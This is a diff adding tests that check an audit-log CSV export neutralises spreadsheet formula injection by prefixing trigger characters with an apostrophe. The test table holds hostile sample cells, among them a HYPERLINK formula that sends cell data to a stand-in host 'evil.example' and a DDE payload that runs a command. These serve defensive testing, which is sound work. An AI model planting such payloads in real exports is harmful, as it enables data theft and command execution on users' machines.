@@ -84,4 +84,50 @@ describe("audit CSV export", () => {
     await appendAuditEvent(t.db, null, { action: "auth.login" });
     expect(await readAll(auditCsvStream(t.db, { action: "nothing." }))).toBe(`${AUDIT_CSV_COLUMNS.join(",")}\r\n`);
   });
+
+  it("neutralises cells a spreadsheet would run as a formula and leaves ordinary values unchanged", async () => {
+    const table: [stored: string, exported: string][] = [
+      ['=HYPERLINK("https://evil.example/?d="&A1,"open")', `'=HYPERLINK("https://evil.example/?d="&A1,"open")`],
+      ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
+      ["+1+1", "'+1+1"],
+      ["-1+1", "'-1+1"],
+      ["@SUM(1+1)", "'@SUM(1+1)"],
+      ["\t=1+1", "'\t=1+1"],
+      ["\r=1+1", "'\r=1+1"],
+      ["\tplain", "'\tplain"],
+      [" =1+1", "' =1+1"],
+      ["\n+1", "'\n+1"],
+      ["\u00a0@SUM(1)", "'\u00a0@SUM(1)"],
+      ["＝1+1", "'＝1+1"],
+      ["＋1", "'＋1"],
+      ["－1", "'－1"],
+      ["＠SUM(1)", "'＠SUM(1)"],
+      ["\u3000＝1+1", "'\u3000＝1+1"],
+      ["'=1+1", "''=1+1"],
+      ["'quoted", "''quoted"],
+      ["ada@noc.local", "ada@noc.local"],
+      ["device.update", "device.update"],
+      ["10.0.0.1", "10.0.0.1"],
+      ["2001:db8::1", "2001:db8::1"],
+      ["r-1", "r-1"],
+      ["x=1+1", "x=1+1"],
+      ["1+1", "1+1"],
+      ["say \"hi\", bye", 'say "hi", bye'],
+      ["two words", "two words"],
+    ];
+    for (const [stored] of table) await appendAuditEvent(t.db, { email: stored, clientIp: stored, requestId: stored }, { action: "test.cell", entityId: stored });
+    const records = parse(await readAll(auditCsvStream(t.db, { action: "test." })));
+    expect(records).toHaveLength(table.length);
+    for (const column of ["entityId", "actorEmail", "clientIp", "requestId"]) {
+      expect(records.map((r, i) => [table[i][0], r[column]])).toEqual(table);
+    }
+  });
+
+  it("neutralises JSON before/after that would start with a trigger, and leaves numeric ids alone", async () => {
+    await appendAuditEvent(t.db, null, { action: "test.json", before: -5, after: { note: "=1+1" } });
+    const [record] = parse(await readAll(auditCsvStream(t.db, { action: "test." })));
+    expect(record.before).toBe("'-5");
+    expect(record.after).toBe('{"note":"=1+1"}');
+    expect(record.id).toMatch(/^[0-9]+$/);
+  });
 });
